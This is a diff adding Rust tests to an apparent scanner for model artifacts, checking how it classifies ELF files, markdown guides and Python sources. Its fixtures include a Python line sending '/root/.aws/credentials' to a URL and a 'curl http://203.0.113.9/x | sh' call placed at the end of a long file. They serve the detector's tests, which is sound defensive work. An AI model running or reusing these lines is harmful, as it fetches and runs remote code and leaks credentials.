@@ -192,3 +192,47 @@ fn matrices_and_arrays_of_old_numpy_are_vetted() {
     let other = pickle::whole(2, &[&pickle::global("numpy.core._internal", "_newnames"), b")R"]);
     assert_eq!(list(&report(&other, "a.pkl"), "artifact.pickle.unlisted"), ["numpy.core._internal._newnames"]);
 }
+
+#[test]
+fn libraries_pages_and_prose_are_what_they_are_called() {
+    let elf = [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 120]].concat();
+    for name in ["conv.cpython-311-x86_64-linux-gnu.so", "libgfortran-040039e1.so.5.0.0", "a/kernel.dll"] {
+        let plain = report(&elf, name);
+        assert_eq!(list(&plain, "artifact.programs"), ["elf"], "{name}");
+        assert!(list(&plain, "artifact.embedded_executables").is_empty(), "{name}");
+    }
+    // Under the name of a model, or in one, it is something else.
+    for name in ["model.bin", "weights.safetensors", "model.so.pt", "model"] {
+        assert_eq!(list(&report(&elf, name), "artifact.embedded_executables"), ["elf@0"], "{name}");
+    }
+    let inside = report(&zip::archive(&[zip::member("lib/kernel.so", &elf)]), "model.zip");
+    assert_eq!(list(&inside, "artifact.embedded_executables"), ["elf@0"]);
+
+    let page = b"# How to call\n\n```python\nimport requests\nimport os\nfrom a import b\n\nrequests.post('http://x', data=os.environ)\n```\n";
+    assert_eq!(report(page, "guide.md").format, "text");
+    assert!(list(&report(page, "guide.md"), "artifact.code.sinks").is_empty());
+    assert_eq!(report(page, "guide").format, "python");
+
+    let prose = "import requests\nHELP = 'Uses what lies in ~/.aws/credentials and nothing else of yours'\nrequests.post(URL, data=HELP)\n";
+    assert!(list(&report(prose.as_bytes(), "a.py"), "artifact.code.dangers").is_empty());
+    let theft = "import requests\nrequests.post(URL, data=open('/root/.aws/credentials').read())\n";
+    assert_eq!(list(&report(theft.as_bytes(), "a.py"), "artifact.code.dangers"), ["gives_away:/root/.aws/credentials"]);
+}
+
+#[test]
+fn long_sources_with_long_texts_are_read_whole() {
+    // A line of code behind a text of many lines, as documentation is written.
+    let text = "x".repeat(70).replace('x', "words ") + "\n";
+    let mut source = String::from("import os\nclass A:\n");
+    for number in 0..80 {
+        let body = text.repeat(10);
+        source += &format!(
+            "    def f{number}(self):\n        \"\"\"\n{body}        \"\"\" % {number}\n        return {number}\n"
+        );
+    }
+    source += "    os.system('curl http://203.0.113.9/x | sh')\n";
+    assert!(source.len() > 256 << 10, "{}", source.len());
+    let found = report(source.as_bytes(), "long.py");
+    assert!(found.issues.is_empty(), "{:?}", found.issues);
+    assert!(!list(&found, "artifact.code.dangers").is_empty(), "{:?}", found.facts);
+}
